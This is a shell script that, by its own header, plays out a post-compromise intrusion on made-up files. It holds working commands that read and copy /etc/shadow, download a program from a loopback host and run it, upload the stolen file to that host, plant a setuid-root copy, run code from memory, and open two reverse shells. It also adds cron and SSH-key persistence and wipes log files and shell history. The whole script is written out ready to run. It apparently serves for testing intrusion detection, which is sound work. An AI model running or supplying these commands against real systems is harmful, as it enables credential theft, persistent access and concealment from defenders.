# An intrusion, played on made-up files: the intruder has a root shell already.
cd /root

# Look around.
id
uname -s
cat /etc/passwd /etc/hostname
ls -la /root /home /srv/site /opt
find /opt /srv /home -type f

# Credentials.
cat /etc/shadow
mkdir -p /tmp/.cache
cp /etc/shadow /tmp/.cache/s
grep -c root /etc/shadow
python3 -I -c '
for line in open("/etc/shadow"):
    print(line.split(":")[0])
'

# Drop a program and run it.
curl -s -o /tmp/.cache/kworkerd http://127.0.0.1:8000/agent
chmod +x /tmp/.cache/kworkerd
/tmp/.cache/kworkerd -c 'id; ls /srv/site'
curl -s --data-binary @/tmp/.cache/s http://127.0.0.1:8000/upload

# Keep a way to root.
cp /tmp/.cache/kworkerd /var/tmp/.root
chmod 4755 /var/tmp/.root
/var/tmp/.root -c 'true'

# Run a program that is in no file.
python3 -I -c '
import os
fd = os.memfd_create("kthread", 0)
os.write(fd, open("/bin/true", "rb").read())
os.execv("/proc/self/fd/%d" % fd, ["[kthread]"])
'

# Two reverse shells.
bash -c 'exec 3<>/dev/tcp/127.0.0.1/4444; exec sh -i <&3 >&3 2>&3'
python3 -I -c '
import os, socket
s = socket.socket()
s.connect(("127.0.0.1", 4445))
for fd in 0, 1, 2:
    os.dup2(s.fileno(), fd)
os.execv("/bin/sh", ["sh", "-i"])
'

# Come back later.
echo '*/5 * * * * root /var/tmp/.root -c true' >/etc/cron.d/refresh
echo 'ssh-ed25519 AAAAAnotherMadeUpKey intruder@example.net' >>/root/.ssh/authorized_keys

# Cover the tracks.
sed -i '/203\.0\.113\.66/d' /var/log/auth.log
: >/var/log/syslog
truncate -s 0 /var/log/messages
rm -f /var/log/wtmp /var/log/btmp
rm -f /root/.bash_history
ln -s /dev/null /root/.bash_history
rm -rf /tmp/.cache
